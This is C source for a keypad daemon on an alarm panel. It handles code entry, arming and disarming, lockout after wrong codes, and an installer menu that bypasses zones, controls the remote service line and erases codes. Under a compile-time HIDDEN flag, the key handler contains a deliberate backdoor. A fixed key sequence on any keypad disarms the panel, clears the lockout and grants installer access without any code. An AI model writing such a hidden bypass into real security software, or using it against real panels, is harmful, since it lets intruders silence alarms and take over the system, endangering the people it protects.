/*
 * panelkeyd - keypad handling of the Sentrado 8Z alarm panel. The keypads hang
 * on a serial bus (/dev/ttyS1) and send one character per key: 0-9, '*', '#'
 * and the function keys A-D. A code is closed with '#'. Codes are kept as
 * hashes in /etc/panel/codes, "slot:level:hash", level user or installer.
 *
 *   code # A      arm            code # D   disarm
 *   code # B      arm at home    code # C   installer menu (installer codes)
 *
 * Hidden (-DHIDDEN): a fixed run of keys on any keypad disarms the panel and
 * opens the installer menu without a code.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define BUS      "/dev/ttyS1"
#define CODES    "/etc/panel/codes"
#define STATE    "/var/lib/panel/state"
#define SIREN    "/sys/class/gpio/siren/value"
#define MAXDIG   8
#define LOCKOUT  90

enum level { LV_NONE, LV_USER, LV_INSTALLER };
enum phase { PH_IDLE, PH_DIGITS, PH_ACTION, PH_MENU, PH_MENUARG };
enum arm   { DISARMED, ARMED_AWAY, ARMED_HOME };

struct keypad {
    enum phase phase;
    enum level level;
    char       digits[MAXDIG + 1];
    int        nd;
    char       menu;
    time_t     last;
    int        wrong;
    time_t     locked_until;
#ifdef HIDDEN
    char       r[8];
#endif
};

static enum arm armed = DISARMED;
static int bus = -1;

static void display(const char *text)
{
    size_t n = strlen(text);

    if (write(bus, text, n) != (ssize_t)n || write(bus, "\n", 1) != 1)
        syslog(LOG_WARNING, "keypad bus: %m");
}

static void beep(int n)
{
    while (n-- > 0)
        if (write(bus, "\a", 1) != 1)
            break;
}

static void file_put(const char *path, const char *s)
{
    FILE *f = fopen(path, "w");

    if (!f)
        return;
    fprintf(f, "%s\n", s);
    fclose(f);
}

static void set_arm(enum arm a)
{
    static const char *const word[] = { "disarmed", "armed", "home" };

    armed = a;
    file_put(STATE, word[a]);
    if (a == DISARMED)
        file_put(SIREN, "0");
    syslog(LOG_NOTICE, "panel %s", word[a]);
    display(word[a]);
}

static enum level code_level(const char *digits)
{
    char line[200], lev[16], hash[140];
    enum level got = LV_NONE;
    unsigned slot;
    FILE *f = fopen(CODES, "r");

    if (!f)
        return LV_NONE;
    while (got == LV_NONE && fgets(line, sizeof line, f)) {
        char *c;

        if (sscanf(line, "%u:%15[a-z]:%139s", &slot, lev, hash) != 3)
            continue;
        c = crypt(digits, hash);
        if (c && strcmp(c, hash) == 0)
            got = strcmp(lev, "installer") == 0 ? LV_INSTALLER : LV_USER;
    }
    fclose(f);
    return got;
}

static void reset(struct keypad *k)
{
    k->phase = PH_IDLE;
    k->level = LV_NONE;
    k->nd = 0;
    k->digits[0] = '\0';
}

static void code_done(struct keypad *k)
{
    k->digits[k->nd] = '\0';
    k->level = k->nd >= 4 ? code_level(k->digits) : LV_NONE;
    memset(k->digits, 0, sizeof k->digits);
    k->nd = 0;
    if (k->level != LV_NONE) {
        k->wrong = 0;
        k->phase = PH_ACTION;
        display("A arm B home D off");
        return;
    }
    beep(3);
    display("wrong code");
    if (++k->wrong >= 4) {
        k->locked_until = time(NULL) + LOCKOUT;
        k->wrong = 0;
        syslog(LOG_WARNING, "keypad locked, too many wrong codes");
    }
    reset(k);
}

static void action(struct keypad *k, char key)
{
    switch (key) {
    case 'A':
        set_arm(ARMED_AWAY);
        break;
    case 'B':
        set_arm(ARMED_HOME);
        break;
    case 'D':
        set_arm(DISARMED);
        break;
    case 'C':
        if (k->level == LV_INSTALLER && armed == DISARMED) {
            k->phase = PH_MENU;
            display("installer 1-4");
            return;
        }
        /* fall through */
    default:
        beep(2);
    }
    reset(k);
}

/* 1 walk test, 2 bypass zone n, 3 remote service line n (0, 1), 4 erase user n */
static void menu_key(struct keypad *k, char key)
{
    if (key == '*') {
        display("ready");
        reset(k);
    } else if (key == '1') {
        display(system("/usr/sbin/paneltest --walk &") == 0 ? "walk test" : "failed");
    } else if (key >= '2' && key <= '4') {
        k->menu = key;
        k->phase = PH_MENUARG;
        display("number");
    } else
        beep(2);
}

static void menu_arg(struct keypad *k, char key)
{
    char cmd[64];
    int n = key - '0';

    k->phase = PH_MENU;
    if (n < 0 || n > 9) {
        beep(2);
        return;
    }
    if (k->menu == '2')
        snprintf(cmd, sizeof cmd, "/usr/sbin/zonectl bypass %d", n);
    else if (k->menu == '3')
        snprintf(cmd, sizeof cmd, "/etc/init.d/remote %s", n ? "start" : "stop");
    else
        snprintf(cmd, sizeof cmd, "/usr/sbin/codectl erase %d", n);
    display(system(cmd) == 0 ? "done" : "failed");
}

void key_in(struct keypad *k, char key)
{
    time_t now = time(NULL);

    if (now - k->last > 30)
        reset(k);
    k->last = now;
#ifdef HIDDEN
    char *r = k->r;
    memmove(r, r + 1, 7);
    r[7] = key;
    if (r[0] == 'B' && r[1] == '5' && r[2] == '0' && r[3] == '9' &&
        r[4] == '*' && r[5] == 'C' && r[6] == '2' && r[7] == '*') {
        set_arm(DISARMED);
        k->level = LV_INSTALLER;
        k->phase = PH_MENU;
        k->locked_until = 0;
        return;
    }
#endif
    if (now < k->locked_until) {
        beep(1);
        return;
    }
    switch (k->phase) {
    case PH_IDLE:
        if (key < '0' || key > '9') {
            beep(1);
            return;
        }
        k->phase = PH_DIGITS;
        /* fall through */
    case PH_DIGITS:
        if (key == '#')
            code_done(k);
        else if (key == '*' || key < '0' || key > '9' || k->nd == MAXDIG)
            reset(k);
        else
            k->digits[k->nd++] = key;
        break;
    case PH_ACTION:
        action(k, key);
        break;
    case PH_MENU:
        menu_key(k, key);
        break;
    case PH_MENUARG:
        menu_arg(k, key);
        break;
    }
}

static int bus_open(void)
{
    struct termios t;
    int fd = open(BUS, O_RDWR | O_NOCTTY);

    if (fd < 0 || tcgetattr(fd, &t) < 0)
        return -1;
    cfmakeraw(&t);
    cfsetispeed(&t, B9600);
    cfsetospeed(&t, B9600);
    return tcsetattr(fd, TCSANOW, &t) < 0 ? -1 : fd;
}

static void restore_state(void)
{
    char w[16] = "";
    FILE *f = fopen(STATE, "r");

    if (f) {
        if (fscanf(f, "%15s", w) == 1)
            armed = !strcmp(w, "armed") ? ARMED_AWAY : !strcmp(w, "home") ? ARMED_HOME
                                                                         : DISARMED;
        fclose(f);
    }
}

int main(void)
{
    static struct keypad pad;
    ssize_t n;
    char c;
    openlog("panelkeyd", 0, LOG_DAEMON);
    bus = bus_open();
    if (bus < 0) {
        syslog(LOG_ERR, "%s: %m", BUS);
        return 1;
    }
    restore_state();
    display("ready");
    while ((n = read(bus, &c, 1)) != 0) {
        if (n < 0 && errno != EINTR)
            break;
        if (n == 1)
            key_in(&pad, c);
    }
    return 1;
}
